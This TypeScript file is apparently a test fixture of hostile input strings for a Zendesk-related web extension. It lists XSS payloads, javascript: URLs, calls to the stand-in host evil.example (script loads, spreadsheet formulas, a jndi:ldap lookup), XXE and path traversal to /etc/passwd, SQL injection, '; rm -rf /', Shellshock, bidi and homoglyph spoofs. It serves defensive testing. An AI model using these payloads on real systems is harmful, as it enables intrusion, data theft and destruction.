/*
 * Text that strangers may put into a ticket, a macro, a flow file, a policy or a stored value, by what it tries to do.
 * What runs sets `window.hacked`.
 */

const run = 'window.hacked=1';
const many = (text: string, times: number) => text.repeat(times);
const around = (texts: readonly string[], before: string, after: string) => texts.map((t) => `${before}${t}${after}`);

const script = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script\t>${run}</script >`,
  `<script/src=data:text/javascript,${run}></script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script type=module>${run}</script>`,
  `<script>${run}//`,
  `</script><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `--><script>${run}</script><!--`,
  `]]><script>${run}</script>`,
  `<<script>${run}//<</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  '`><script>window.hacked=1</script>',
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><script>${run}</script>">`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `%3Cscript%3E${run}%3C%2Fscript%3E`,
  `\u{ff1c}script\u{ff1e}${run}\u{ff1c}/script\u{ff1e}`,
  `<script\u0000>${run}</script>`,
  `<math><mtext></p><script>${run}</script>`,
];

const tags = ['img', 'svg', 'body', 'video', 'audio', 'iframe', 'input', 'details', 'marquee', 'object'];
const events = ['onload', 'onerror', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart'];
const handlers = [
  ...tags.flatMap((tag) => [
    `<${tag} src=x onerror=${run}>`,
    `<${tag} onload="${run}">`,
    `<${tag}/onmouseover=${run}//`,
  ]),
  ...events.flatMap((event) => [
    `" ${event}="${run}`,
    `' ${event}='${run}`,
    `x ${event}=${run}`,
    `<x tabindex=0 ${event}=${run}>`,
  ]),
  `<img src="x" onerror="&#119;indow.hacked=1">`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<second-line-overlay onclick=${run}>`,
];

const svg = [
  `<svg><script>${run}</script></svg>`,
  `<svg onload=${run}>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.hacked=1</script>"></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x"></svg>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<svg><set attributeName=onload to=${run}>`,
  `<math href="javascript:${run}">x</math>`,
  `<math><mi xlink:href="data:x,<script>${run}</script>">`,
  `<svg><image href=x onerror=${run}></svg>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
];

const frames = [
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<iframe src="javascript:parent.hacked=1"></iframe>`,
  `<embed src="javascript:${run}">`,
  `<object data="javascript:${run}"></object>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>*{display:none}</style>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<div style="position:fixed;inset:0;background:url(javascript:${run})">`,
  `<form action="javascript:${run}"><button>Submit as Solved</button></form>`,
  `<button formaction="javascript:${run}">Submit</button>`,
  `<a href="javascript:${run}">Open</a>`,
  `<dialog open>Sign in again<input type=password></dialog>`,
  `<portal src="https://evil.example/">`,
  `<slot name=x></slot><template shadowrootmode=open><script>${run}</script></template>`,
];

const schemes = [
  ...['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', ' javascript:', '\u0001javascript:'],
  ...['javascript\u003a', 'javascript&colon;', 'vbscript:', 'livescript:', 'feed:javascript:', 'jar:javascript:'],
  ...['view-source:javascript:', 'data:text/html,<script>', 'data:text/javascript,', 'data:application/x,'],
].map((scheme) => `${scheme}${run}`);

const addresses = [
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=',
  'blob:https://govuk.zendesk.com/0',
  'file:///etc/passwd',
  '//evil.example/agent/tickets/1',
  '\\\\evil.example\\share',
  'https:evil.example',
  'https:\\evil.example',
  'https://govuk.zendesk.com@evil.example/agent/tickets/1',
  'https://govuk.zendesk.com.evil.example/agent/',
  'https://xn--zendesk-9za.com/agent/',
  'chrome-extension://abc/src/entries/popup.html',
  'moz-extension://abc/src/entries/options.html',
  'intent://x#Intent;scheme=javascript;end',
  'mailto:x@example.com?bcc=all@example.com&body=%0d%0aBcc:x',
  'tel:+15555550100',
  '../../../../etc/passwd',
  '..%2f..%2fapi%2fv2%2fusers',
  '?a=1&__proto__[hacked]=1',
  '#<img src=x onerror=window.hacked=1>',
];

const bidiMarks = ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069'];
const bidi = [
  ...around(bidiMarks, 'Invoice ', 'gpj.exe'),
  ...['\u200e', '\u200f', '\u061c'].map((mark) => `${mark}Closed${mark}`),
  many('\u202e', 500),
  many('\u2067', 200),
  `${many('\u2069', 200)}\u202eevlos`,
  '\u202eretsnom\u202c solved \u202eneddih',
  'שלום עולם 5 working days',
  'مرحبا 12345 (High) ',
  '123 \u05d0\u05d1\u05d2 456',
  '\u05d0) Submit as Solved (\u05d1',
];

const unseen = [
  ...['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad', '\u180e', '\u034f', '\u3164', '\u2800'].map(
    (mark) => `pass${mark}word`,
  ),
  many('\u200b', 1000),
  '\u200b',
  '\u00a0',
  '\ufe0f',
  '\u{e0001}\u{e0041}\u{e0042}',
  '\u{e0100}',
  'a\u0000b',
  '\u0000',
  '\u0000\u0001\u0002\u0003\u0004\u0005\u0006\u0007\u0008\u000b\u000c\u000e\u000f',
  '\u007f\u0080\u009f',
  '\u2028window.hacked=1\u2029',
  'a\rb\nc\r\nd\te',
  many('\n', 500),
  '\ud800',
  '\udc00\ud800',
  '\uffff\ufffe',
  '\ufdd0',
];

const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `{{7*7}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `<#assign x="freemarker.template.utility.Execute"?new()>`,
  `{% raw %}{{x}}{% endraw %}`,
  `{{ticket.requester.email}}`,
  `{{dc.secret}}`,
  `[[${run}]]`,
  `{{{${run}}}}`,
  `@{${run}}`,
  `*{${run}}`,
  `$(${run})`,
  `\`${run}\``,
  `%s%s%s%n%x`,
  `%d%p%c`,
  `{0}{1}{2}`,
  `\\\\x3cscript\\\\x3e`,
  `$&$1$\`$'$$`,
  `\\1\\0\\g<0>`,
];

const keys = [
  ...['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__'],
  ...['__proto__.hacked', 'constructor.prototype.hacked', 'then', 'toJSON', 'length', 'nodeName', 'walk:', 'broken:x'],
  '{"__proto__":{"hacked":1}}',
  '{"constructor":{"prototype":{"hacked":1}}}',
  '[{"__proto__":null}]',
  '{"v":9007199254740993,"data":null}',
  '{"v":1,"data":{"__proto__":{"hacked":1}}}',
  '{"ok":true,"data":{}}',
  '{"secondLine":"read-guide","request":{}}',
  'null',
  'undefined',
  'true',
  'NaN',
  '-0',
  '1e999',
  '9007199254740993',
  '0x10',
  '[object Object]',
  'function(){}',
];

const shells = [
  '\u001b[31mred\u001b[0m',
  '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
  '\u001b[2J\u001b[H',
  '\u009b31m',
  '\u001b]0;title\u0007',
  '\b\b\b\bxxxx',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example","x")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '=IMPORTXML("https://evil.example","//a")',
  '\t=1+1',
  '\r=1+1',
  "'; DROP TABLE tickets; --",
  '" OR ""="',
  '; rm -rf /',
  '| cat /etc/passwd',
  '`id`',
  '$(id)',
  '../../../etc/passwd\u0000.png',
  'CON',
  `\${jndi:ldap://evil.example/a}`,
  '() { :; }; echo x',
  'type:ticket status:solved OR assignee:none',
  '" status<solved "',
];

const looks = [
  'раypal.com',
  'ɢoogle.com',
  'zendesk.соm',
  'Ѕolved',
  'АBCDEFGH',
  '𝐩𝐚𝐬𝐬𝐰𝐨𝐫𝐝',
  '𝓑𝓲𝓭𝓲',
  'ｆｕｌｌｗｉｄｔｈ',
  'ⓐⓓⓜⓘⓝ',
  'ſcript',
  'İstanbul ıI',
  'ß SS ẞ',
  'ﬁﬂﬀ',
  '①②③',
  'Å Å Å',
  '👩‍👩‍👧‍👦🏳️‍🌈👍🏽',
  '🇬🇧🇨🇾',
  many('👩‍💻', 200),
  `Z${many('\u0336\u0340\u0341', 100)}algo`,
  many('\u0301', 500),
  `e${many('\u0301', 1000)}`,
  '﷽﷽﷽',
  'ᚠᛇᚻ᛫ᛒᛦᚦ',
  '田中さんにあげて下さい',
  '社會科學院語學研究所',
  '울란바토르',
  'ˈɡɪv mi ə ˈtɪkɪt',
  '˙ɐnbᴉlɐ ɐuƃɐɯ',
];

const huge = [
  many('A', 1_000_000),
  many('<b>', 100_000),
  many('a@b.example ', 20_000),
  `${many('[', 20_000)}${many(']', 20_000)}`,
  `${many('{"a":', 10_000)}1${many('}', 10_000)}`,
  `${many('a', 50_000)}!`,
  many('\u202e', 100_000),
  many('https://', 20_000),
  many('1', 100_000),
  `${many(' ', 100_000)}x`,
  // Four ways to end a sentence, and none.
  ...['!', '.', ')', '_'].map((mark) => `https://www.gov.uk/a${many(mark, 64_000)}a`),
];

/** Every string of the set, each once, in a fixed order. */
export const hostileStrings: readonly string[] = [
  ...new Set([
    ...script,
    ...handlers,
    ...svg,
    ...frames,
    ...schemes,
    ...addresses,
    ...bidi,
    ...unseen,
    ...templates,
    ...keys,
    ...shells,
    ...looks,
    ...huge,
  ]),
];

/** Forty of them that a browser itself could fall for, short enough for a field of Zendesk's page. */
export const hostileForBrowsers: readonly string[] = [
  ...script.slice(0, 10),
  ...handlers.filter((_, at) => at % 7 === 0).slice(0, 9),
  ...svg.slice(0, 6),
  ...frames.slice(0, 4),
  ...schemes.slice(0, 2),
  ...bidi.filter((_, at) => at % 6 === 0),
  ...unseen.slice(0, 2),
  ...templates.slice(0, 2),
  ...keys.slice(0, 2),
];
